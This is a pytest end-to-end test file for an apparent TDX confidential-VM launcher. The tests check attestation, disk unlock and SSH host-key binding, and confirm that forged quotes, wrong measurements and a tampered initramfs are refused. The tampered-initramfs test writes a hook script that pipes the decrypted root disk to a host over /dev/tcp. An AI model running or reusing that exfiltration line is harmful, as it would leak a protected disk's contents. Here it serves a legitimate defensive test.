"""End to end on the real libvirtd: the smoke image launched emulated (TCG), attested,
unlocked, logged in to over SSH with the attested host key, destroyed — and launches
that must be refused with nothing unlocked."""

from __future__ import annotations

import base64
import contextlib
import hashlib
import json
import secrets
import shutil
import subprocess
from pathlib import Path

import libvirt
import pytest
from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey

from tdxvm.emulate import EmulatedPlatform
from tdxvm.attest import TrustAnchor
from tdxvm.launch.errors import LaunchError
from tdxvm.launch.console import serial_log_tail
from tdxvm.launch.lifecycle import destroy, status
from tdxvm.launch.manifest import load_manifest
from tdxvm.launch.records import VmRecords
from tdxvm.launch.spec import VmSpec
from tdxvm.provision import bringup, handshake, ssh
from tdxvm.provision.trust import Trust, for_backend
from tdxvm.secretstore import SecretStore
from tdxvm.sshkey import controller_key

pytestmark = pytest.mark.vm
URI = "qemu:///system"


@pytest.fixture(scope="module")
def trust(tmp_path_factory):
    return for_backend("emulated", emulated_dir=tmp_path_factory.mktemp("emulated"))


@pytest.fixture
def vm_name(conn):
    name = f"e2e-{secrets.token_hex(3)}"
    yield name
    with contextlib.suppress(LaunchError):  # already destroyed by the test
        destroy(conn, name)


def _spec(name: str, manifest_path: Path, **policy) -> VmSpec:
    return VmSpec(name=name, uri=URI, image=manifest_path, backend="emulated", vcpus=1, memory=1024,
                  policy=policy or None)  # fmt: skip


def _launch(conn, spec, trust, store, events=None):
    """bring_up, tried a second time only if the guest's kernel crashed (seen under QEMU 7.2's
    TCG, never with TDX): anything else fails the test the first time."""
    for attempt in (1, 2):
        try:
            return bringup.bring_up(spec, load_manifest(spec.image), conn, trust=trust, secrets=store,
                                    progress=(events.append if events is not None else bringup._quiet))  # fmt: skip
        except bringup.BringUpError as exc:
            if attempt == 2 or "Kernel panic" not in exc.serial_tail:
                raise
            print(f"the emulated guest's kernel crashed under TCG; launching {spec.name} once more:\n{exc.serial_tail}")
            destroy(conn, spec.name)
            if events is not None:
                events.clear()
    raise AssertionError("unreachable")


def _never_unlocked(conn, name):
    tail = serial_log_tail(conn, name, lines=400)
    assert "tdxvm-unlock: listening" in tail  # it booted to the unlock step and waited
    assert "received secret" not in tail and "set up successfully" not in tail
    assert not conn.lookupByName(name).isActive()  # stopped


class _HostSealsFirst(list):
    """Progress events; when the quote phase starts (the initramfs' unlock step is up), the
    host attests the TD itself, with a genuine quote of the same kernel and initramfs, and
    seals the passphrase of a disk of its own to the attested key, before the controller."""

    def __init__(self, conn, name: str, trust, store) -> None:
        super().__init__()
        self.conn, self.name, self.trust, self.records = conn, name, trust, VmRecords.beside(store)
        self.refusals: list[str] = []

    def append(self, event) -> None:
        super().append(event)
        if event.phase == "quote" and event.status == "start" and not self.refusals:
            record, _ = bringup.trusted_vm(self.conn, self.name, self.records, trust=self.trust)
            agent = record.address(record.agent_port, "guest agent")
            hosts = bringup.attest(self.conn, self.name, agent, self.trust, record.policy, require_keys=("x25519",))
            with hosts, pytest.raises(handshake.GuestError) as refused:
                hosts.release("disk", b"the host's own passphrase", sender=X25519PrivateKey.generate())
            self.refusals.append(str(refused.value))

    def clear(self) -> None:
        super().clear()
        self.refusals.clear()


def test_launch_attest_unlock_ssh_reattest_destroy(conn, trust, smoke_build, vm_name):
    store = SecretStore(directory=smoke_build.secrets)
    events = _HostSealsFirst(conn, vm_name, trust, store)
    result = _launch(conn, _spec(vm_name, smoke_build.folder / "manifest.json"), trust, store, events)
    assert [e.phase for e in events if e.status == "done"] == list(bringup.PHASES)
    # the host's passphrase was refused by the unlock step, which then took the controller's
    assert len(events.refusals) == 1 and "not sealed by the controller's release key" in events.refusals[0]
    assert "refused secret 'disk'" in serial_log_tail(conn, vm_name, lines=2000)
    assert result.verdict["verdict"] == "accept" and result.verdict["tcb_status"] == "UpToDate"
    assert set(result.timings) == set(bringup.PHASES)
    # the booted system runs from the unlocked LUKS2 root, and SSH accepts only the attested key
    client = ssh.connect(result.ssh, host_key=base64.b64decode(result.ssh_host_key),
                         client_key=controller_key(store))  # fmt: skip
    with client:
        assert ssh.run(client, "findmnt -no SOURCE /").strip() == "/dev/mapper/root"
        assert "crypt" in ssh.run(client, "lsblk -no TYPE /dev/mapper/root")
        host_pub = ssh.run(client, "cat /etc/ssh/ssh_host_ed25519_key.pub").split()[1]
        assert host_pub == result.ssh_host_key  # made inside the guest, bound by the quote
    # a man in the middle presenting another key is refused
    wrong = bytearray(base64.b64decode(result.ssh_host_key))
    wrong[-1] ^= 1
    with pytest.raises(ssh.HostKeyMismatch):
        ssh.connect(result.ssh, host_key=bytes(wrong), client_key=controller_key(store))
    # re-attestation with a fresh nonce, recorded in the domain's metadata
    with bringup.reattest(conn, vm_name, records=VmRecords.beside(store), trust=trust) as again:
        assert again.nonce != b"" and again.verdict.accepted
    [vm] = status(conn, vm_name, records=VmRecords.beside(store))
    assert vm.record == "ok" and vm.attestation["verdict"] == "accept"
    report = destroy(conn, vm_name, records=VmRecords.beside(store))
    assert report.was_running and VmRecords.beside(store).get(vm.uuid) is None
    with pytest.raises(libvirt.libvirtError):
        conn.lookupByName(vm_name)


def test_policy_with_wrong_mrtd_is_refused(conn, trust, smoke_build, vm_name):
    store = SecretStore(directory=smoke_build.secrets)
    with pytest.raises(handshake.AttestationRefused) as refused:
        _launch(conn, _spec(vm_name, smoke_build.folder / "manifest.json", mrtd="ab" * 48), trust, store)
    assert [r.code for r in refused.value.reasons] == ["measurement-mismatch"]
    assert "quote field MR_TD is" in refused.value.reasons[0].message
    _never_unlocked(conn, vm_name)


def test_initramfs_modified_after_the_build_is_refused(conn, trust, smoke_build, vm_name, tmp_path):
    """The host swaps the initramfs (here: one more file appended, as an attacker's hook
    would be); the manifest's artifact hash is fixed up, its measurements are not: the
    quote's RTMR2 (what the emulated TD measured) no longer matches."""
    folder = tmp_path / "tampered"
    shutil.copytree(smoke_build.folder, folder)
    extra = tmp_path / "extra"
    (extra / "scripts").mkdir(parents=True)
    (extra / "scripts/evil").write_text("#!/bin/sh\ncat /dev/mapper/root > /dev/tcp/host\n")
    cpio = subprocess.run("find . | cpio -o -H newc --quiet | gzip -n", shell=True, cwd=extra, capture_output=True,
                          check=True).stdout  # fmt: skip
    with open(folder / "initrd.img", "ab") as f:
        f.write(cpio)
    manifest = json.loads((folder / "manifest.json").read_text())
    data = (folder / "initrd.img").read_bytes()
    manifest["artifacts"]["initrd.img"] = {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data)}
    (folder / "manifest.json").write_text(json.dumps(manifest))
    store = SecretStore(directory=smoke_build.secrets)
    with pytest.raises(handshake.AttestationRefused) as refused:
        _launch(conn, _spec(vm_name, folder / "manifest.json"), trust, store)
    assert [(r.code, r.message.split(" is ")[0]) for r in refused.value.reasons] == [("measurement-mismatch", "quote field RTMR2")]
    _never_unlocked(conn, vm_name)


def test_quote_from_another_signer_is_refused(conn, trust, smoke_build, vm_name):
    """The host runs its own quote service (another root): a forged quote."""
    forger = EmulatedPlatform()
    forged = Trust("emulated", trust.collateral, trust.trust_anchor, platform=forger)
    assert TrustAnchor.from_der(forger.root_ca_der) != trust.trust_anchor
    store = SecretStore(directory=smoke_build.secrets)
    with pytest.raises(handshake.AttestationRefused) as refused:
        _launch(conn, _spec(vm_name, smoke_build.folder / "manifest.json"), forged, store)
    codes = {r.code for r in refused.value.reasons}
    assert codes & {"untrusted-root", "pck-chain"}, refused.value.reasons
    _never_unlocked(conn, vm_name)
